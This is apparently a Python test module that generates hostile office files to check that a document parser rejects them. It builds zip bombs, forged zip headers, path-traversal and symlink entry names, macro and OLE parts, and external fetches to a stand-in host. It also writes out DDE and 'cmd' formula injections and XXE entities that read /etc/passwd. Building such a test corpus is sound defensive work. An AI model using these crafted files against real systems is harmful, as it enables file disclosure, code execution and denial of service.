"""Hostile archives and documents: bombs, strange names, macros, fetches, lies about sizes."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator

from tests.attack.good_files import docx_parts, ods_parts, workbook, zipped
from tests.attack.payloads import MARK, SCRIPT, Hostile

_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + MARK.encode()
_LEADING_OUT = ("attachedTemplate", "oleObject", "image", "frame", "subDocument", "aFChunk", "package", "hyperlink")
_XML = '<?xml version="1.0"?>'


def _bombs() -> Iterator[Hostile]:
    for size in (51, 90):
        yield Hostile("bom.docx", zipped({**docx_parts(), "word/big.xml": bytes(size << 20)}))
        yield Hostile("bom.xlsx", zipped({"[Content_Types].xml": b"", "xl/workbook.xml": b" " * (size << 20)}))
    for times in (2_001, 9_000, 60_000):
        yield Hostile("veel.ods", zipped({f"Pictures/{place}.png": b"" for place in range(times)}))
    nested = zipped({"a.bin": bytes(20 << 20)})
    for _depth in range(8):
        nested = zipped({"[Content_Types].xml": b"", "word/media/image1.png": nested})
        yield Hostile("genest.docx", nested)
    yield Hostile("genest.docx", zipped({**docx_parts(), "word/media/image1.png": nested}))


def _lies() -> Iterator[Hostile]:
    whole = zipped({**docx_parts(), "word/lie.xml": b"<a>" + b" " * 40_000 + b"</a>"})
    for told in (1, 100, 39_000, 50_000, 0xFFFFFFFE):
        data = bytearray(whole)
        place = data.find(b"PK\x01\x02")
        while place >= 0:
            if data[place + 46 :].startswith(b"word/lie.xml"):
                data[place + 24 : place + 28] = struct.pack("<I", told)
            place = data.find(b"PK\x01\x02", place + 4)
        yield Hostile("leugen.docx", bytes(data), payload=())
    for offset in (0, 10, 50):  # two names for the same bytes: the smallest of bombs
        data = bytearray(whole)
        last = data.rfind(b"PK\x01\x02")
        data[last + 42 : last + 46] = struct.pack("<I", offset)
        yield Hostile("dubbel.docx", bytes(data), payload=())
    end = len(whole) - 22
    yield Hostile("aantal.docx", whole[: end + 8] + struct.pack("<HH", 1, 1) + whole[end + 12 :], payload=())
    yield Hostile("kop.docx", b"PK\x03\x04" + SCRIPT.encode() + whole)
    yield Hostile("staart.docx", whole + SCRIPT.encode())
    comment = bytearray(whole)
    comment[-2:] = struct.pack("<H", len(SCRIPT))
    yield Hostile("opmerking.docx", bytes(comment) + SCRIPT.encode())


def _names() -> Iterator[Hostile]:
    for name in (
        "../../etc/cron.d/x", "/etc/passwd", "..\\..\\x.xml", "word/../../x.xml", "C:\\x.xml", "word/\u202elmx.exe",
        "word/x\r\ny.xml", "word/" + "a" * 9_000 + ".xml", "WORD/DOCUMENT.XML", "word/x.exe",
        "word/x.js", "autorun.inf", "word/x.html", "word/con.dll", ".htaccess", "~/.ssh/authorized_keys",
    ):  # fmt: skip
        yield Hostile("namen.docx", zipped({**docx_parts(), name: MARK}))
    for target in ("/etc/passwd", "../../x"):
        out = io.BytesIO(zipped(docx_parts()))
        with zipfile.ZipFile(out, "a") as archive:
            link = zipfile.ZipInfo("word/media/image1.png")
            link.external_attr = 0o120777 << 16
            archive.writestr(link, target)
        yield Hostile("koppeling.docx", out.getvalue(), payload=())
    with_nul = zipped({**docx_parts(), "word/xxx.xml": "<a/>"}).replace(b"word/xxx.xml", b"word/x\x00x.xml")
    yield Hostile("nul.docx", with_nul, payload=())


def _macros() -> Iterator[Hostile]:
    for part in (
        "word/vbaProject.bin", "word/vbaData.xml", "word/activeX/activeX1.xml", "word/activeX/activeX1.bin",
        "word/embeddings/oleObject1.bin", "word/embeddings/boek.xlsx", "customUI/customUI.xml", "word/afchunk.mht",
        "word/webextensions/webextension1.xml", "word/attachedToolbars.bin", "word/media/image1.svg", "word/x.bin",
        "userCustomization/customUI.xml",
    ):  # fmt: skip
        yield Hostile("macro.docx", zipped({**docx_parts(), part: MARK}))
        yield Hostile("ole.docx", zipped({**docx_parts(), part: _OLE}))
    book = _parts_of(workbook([["a"]]))
    for part in (
        "xl/vbaProject.bin", "xl/macrosheets/sheet1.xml", "xl/externalLinks/externalLink1.xml", "xl/connections.xml",
        "xl/dialogsheets/sheet1.xml", "xl/queryTables/queryTable1.xml", "xl/embeddings/oleObject1.bin",
        "xl/ctrlProps/ctrlProp1.xml",
    ):  # fmt: skip
        yield Hostile("macro.xlsx", zipped({**book, part: f"<a>{MARK}</a>"}))
    types = str(docx_parts()["[Content_Types].xml"]).replace("document.main", "document.macroEnabled.main")
    yield Hostile("macro.docx", zipped({**docx_parts(), "[Content_Types].xml": types}), payload=())
    for part in ("Basic/Standard/Module1.xml", "Scripts/python/x.py", "Object 1/content.xml", "Pictures/x.svg"):
        yield Hostile("macro.ods", zipped({**ods_parts(), part: f"<a>{MARK}</a>"}))
    for media in (b"MZ", b"PK\x03\x04", _OLE, b"<svg/>", b"%PDF-"):
        yield Hostile("beeld.docx", zipped({**docx_parts(), "word/media/image1.png": media + MARK.encode()}))


def _fetches() -> Iterator[Hostile]:
    for kind in (
        "attachedTemplate",
        "oleObject",
        "image",
        "frame",
        "subDocument",
        "aFChunk",
        "externalLinkPath",
        "hyperlink",
    ):
        for target in ("http://voorbeeld.invalid/x.dotm", "file:///etc/passwd", "\\\\voorbeeld.invalid\\x", "mhtml:x"):
            if kind == "hyperlink" and target.startswith("http:"):
                continue
            relation = f'<Relationship Id="r5" Type="{_REL}/{kind}" Target="{target}#{MARK}" TargetMode="External"/>'
            yield Hostile("sjabloon.docx", zipped(docx_parts(relations=relation)))
    for order in ("DDEAUTO c:\\\\x", "DDE cmd", "INCLUDETEXT x", "INCLUDEPICTURE http://x"):
        simple = f'<w:fldSimple w:instr="{order} {MARK}"/>'
        cut = "".join(f"<w:r><w:instrText>{letter}</w:instrText></w:r>" for letter in f"{order} {MARK}")
        for body in (simple, cut):
            yield Hostile("veld.docx", zipped(docx_parts(body)))
    for formula in (
        f"=cmd|'/c {MARK}'!A0", f'=WEBSERVICE("http://x/{MARK}")', f'=RTD("{MARK}",,"x")', f"=DDE(\"{MARK}\";1)",
        f'=CALL("{MARK}","x")', f'=REGISTER("{MARK}")', f"='file:///x/{MARK}'#$A.A1",
    ):  # fmt: skip
        yield Hostile("formule.xlsx", workbook([[formula]]))
        quoted = formula.replace('"', "&quot;")
        yield Hostile("formule.ods", zipped(ods_parts(f'<table:table-cell table:formula="of:{quoted}"/>')))
    for more in (
        f'<office:scripts><office:script script:language="x">{MARK}</office:script></office:scripts>',
        f'<script:event-listener script:event-name="dom:load" xlink:href="{MARK}"/>',
        f'<draw:object xlink:href="{MARK}"/>', f'<draw:image xlink:href="http://x/{MARK}"/>',
        f'<table:table-source xlink:href="{MARK}"/>', f'<draw:plugin xlink:href="{MARK}"/>',
        f'<text:a xlink:href="javascript:{MARK}"/>', f'<text:a xlink:href="vnd.sun.star.script:{MARK}"/>',
    ):  # fmt: skip
        yield Hostile("actief.ods", zipped(ods_parts(more=more)))


def _xml() -> Iterator[Hostile]:
    lol = '<!ENTITY a "lol">' + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9))
    for definition in (
        lol, f'<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY y "{MARK}">',
        '<!ENTITY x SYSTEM "http://voorbeeld.invalid/">',
        '<!ENTITY % p SYSTEM "http://voorbeeld.invalid/x.dtd"> %p;', f'<!ENTITY q "{"x" * 90_000}">',
        "<!ELEMENT a ANY>",
    ):  # fmt: skip
        text = f"{_XML}<!DOCTYPE a [{definition}]><a>&j;&x;&q;&q;</a>"
        for name, parts in (("x.docx", docx_parts()), ("x.ods", ods_parts())):
            for part in ("docProps/core.xml", "word/document.xml") if name == "x.docx" else ("content.xml", "meta.xml"):
                yield Hostile(name, zipped({**parts, part: text}), payload=(b"root:",))
                yield Hostile(name, zipped({**parts, part: text.encode("utf-16")}), payload=(b"root:",))
    for body in (
        "<a>" * 100_000,
        "<w:p>" * 300 + "</w:p>" * 300,
        f"<a {'b' * 2_000_000}='1'/>",
        "<a>&#0;</a>",
        "<a><b></a>",
    ):
        yield Hostile("diep.docx", zipped(docx_parts(body)), payload=())


def _sheets() -> Iterator[Hostile]:
    book = _parts_of(workbook([["a"]]))
    for part, text in (
        ("xl/worksheets/sheet1.xml", "<worksheet><sheetData>" + "<row/>" * 1_000_000 + "</sheetData></worksheet>"),
        ("xl/worksheets/sheet1.xml", "<worksheet><sheetData>" + "<row/>" * 10_000_000 + "</sheetData></worksheet>"),
        ("xl/sharedStrings.xml", "<sst>" + "<si><t>x</t></si>" * 1_500_000 + "</sst>"),
        ("xl/worksheets/sheet1.xml", "<worksheet><row>" + "<c><f>1</f></c>" * 1_500_000 + "</row></worksheet>"),
        ("xl/worksheets/sheet1.xml", "<worksheet><row><c><f>" + "A|" * 8_000_000 + "</f></c></row></worksheet>"),
    ):
        yield Hostile("rijen.xlsx", zipped({**book, part: text}), may_pass=True, payload=())


def _parts_of(data: bytes) -> dict[str, bytes | str]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _other() -> Iterator[Hostile]:
    yield Hostile("pak.docx", b"PK\x03\x04" + zlib.compress(MARK.encode()))
    yield Hostile("leeg.xlsx", b"PK\x05\x06" + bytes(18), payload=())
    whole = zipped(docx_parts())
    for name in ("x.xlsx", "x.ods"):
        yield Hostile(name, whole, payload=())
    yield Hostile("x.docx", zipped(ods_parts()), payload=())
    for place in range(1, 12):
        yield Hostile("afgebroken.docx", whole[: len(whole) * place // 12], payload=())


MAKERS: dict[str, Callable[[], Iterator[Hostile]]] = {
    "bombs": _bombs,
    "lies about sizes": _lies,
    "names of parts": _names,
    "macros": _macros,
    "fetches": _fetches,
    "xml": _xml,
    "sheets": _sheets,
    "broken archives": _other,
}
